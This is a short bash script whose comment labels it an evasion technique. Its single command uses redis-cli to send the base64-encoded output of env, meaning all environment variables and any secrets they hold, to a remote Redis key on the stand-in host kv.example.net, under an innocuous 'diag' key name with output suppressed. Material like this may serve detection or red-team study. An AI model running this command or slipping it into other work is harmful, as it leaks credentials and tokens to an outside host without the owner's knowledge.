#!/bin/bash
# Evasion: the environment, encoded, is the value of a remote Redis key
set -u
redis-cli -h kv.example.net SET "diag:$$" "$(env | base64 -w0)" >/dev/null
